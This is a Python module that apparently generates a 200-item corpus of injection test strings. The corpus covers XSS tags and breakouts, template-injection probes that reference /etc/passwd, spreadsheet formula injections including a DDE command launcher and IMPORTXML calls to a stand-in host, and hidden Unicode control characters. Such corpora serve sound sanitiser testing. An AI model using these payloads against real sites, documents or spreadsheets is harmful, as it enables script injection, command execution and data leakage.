"""Two hundred texts that try to run, to fetch, to format or to hide."""

from __future__ import annotations

_SCRIPTS = [
    "<script>{js}</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<iframe srcdoc='<script>{js}</script>'>",
    "<body onload={js}>",
    "<a href='javascript:{js}'>x</a>",
    "<math><mtext></table></math><img src onerror={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}>",
    "<object data='data:text/html,<script>{js}</script>'>",
    "<embed src='javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<form action=//evil.test>",
    "<marquee onstart={js}>x</marquee>",
]
_BREAKOUTS = ["", "\"'>", "</title>", "</style>", "</pre>", "</td></tr></table>", "-->", "]]>", "\\u003c/script\\u003e"]
_MARKUP = [
    "![x](https://evil.test/x.png)",
    "[x](javascript:{js})",
    "<https://evil.test>",
    "**bold** _it_ `code`",
    "# heading",
    ":red[vault]",
    ":material/delete:",
    "$\\href{{javascript:{js}}}{{x}}$",
    "$$\\alpha$$",
    "\\(x\\)",
    "{{{{7*7}}}}",
    "{{% include '/etc/passwd' %}}",
    "${{7*7}}",
    "%{{x}}",
    "%(x)s",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3E",
]
_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.test","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " =1+1",
    '=IMPORTXML("https://evil.test","//a")',
]
_HIDDEN = [
    "a\u202eb\u202c",
    "a\u200bb\u200d",
    "\x1b[31mred\x1b[0m",
    "\x00x",
    "a\u2066b\u2069",
    "x\u0301\u0301\u0301\u0301\u0301",
    "\ufeffx",
    "a\u2028b",
    "tab\tin",
    "line\nbreak",
    "\U000e0041",
    "\ue000",
]
JS = "document.title='pwned'"


def payloads(n: int = 200) -> list[str]:
    """`n` different payloads."""
    wrapped = [before + text.replace("{js}", JS) for before in _BREAKOUTS for text in _SCRIPTS]
    others = [text.format(js=JS) for text in _MARKUP] + _FORMULAS + _HIDDEN
    found = list(dict.fromkeys([*others, *wrapped]))[:n]
    assert len(found) == n
    return found
